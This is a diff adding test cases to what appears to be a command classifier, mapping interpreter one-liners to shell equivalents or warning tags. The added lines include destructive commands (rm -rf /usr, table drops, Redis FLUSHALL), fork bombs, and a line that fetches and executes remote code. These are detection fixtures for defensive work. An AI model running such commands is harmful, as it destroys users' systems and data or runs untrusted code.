@@ -179,5 +179,23 @@ node -e 'require("fs/promises").rm("/lib", {recursive: true})' => rm -rf -- /lib
 deno eval 'Deno.removeSync("/lib", {recursive: true})' => rm -rf -- /lib
 deno run x.ts =>
 php -r 'array_map("unlink", glob("/lib/*"));' => rm -f -- /lib/<*>…
+python3 -c 'import os; os.chdir("/"); os.system("rm -rf usr")' => rm -rf usr
+python3 -c 'import pathlib; [p.unlink() for p in pathlib.Path("/usr/lib").glob("*")]' => rm -f -- /usr/lib/<*>…
+python3 -c 'import subprocess as s; s.run("sh", input=b"rm -rf /usr")' => rm -rf /usr
+python3 -c 'import sh; sh.rm("-rf", "/usr")' => rm -rf /usr
+python3 -c 'import sqlite3; c = sqlite3.connect("a.db"); c.execute("drop table users")' => usql -c "drop table users"
+python3 -c 'import redis; redis.Redis().flushall()' => redis-cli FLUSHALL
+python3 -c 'import urllib.request as u; exec(u.urlopen("https://x.org/i").read())' => curl -s https://x.org/i | note run-unknown
+python3 -c 'import requests; print(requests.get("https://x.org/i").text)' => curl -s https://x.org/i
+python3 -c 'import os¶while True: os.fork()' => note fork-bomb
+perl -e 'chdir "/"; system "rm -rf usr"' => rm -rf usr
+perl -e 'for (glob "/usr/*") { system "rm -rf $_" }' => rm -rf /usr/<*>…
+perl -e 'unlink $_ for glob "/usr/lib/*"' => rm -f -- /usr/lib/<*>…
+perl -e 'open(P, "|sh"); print P "rm -rf /usr"' => rm -rf /usr
+perl -e 'fork while fork' => note fork-bomb
+perl -e 'fork and exit; while (1) { sleep 1 }' =>
+ruby -e 'Dir.chdir("/") { system "rm -rf usr" }' => rm -rf usr
+ruby -e 'loop { fork }' => note fork-bomb
+php -r 'mysqli_query($c, "DROP TABLE users");' => usql -c "DROP TABLE users"
 julia -e 'rm("/lib", recursive=true); mv("/a", "/b")' => rm -rf -- /lib | mv -T -- /a /b
 `
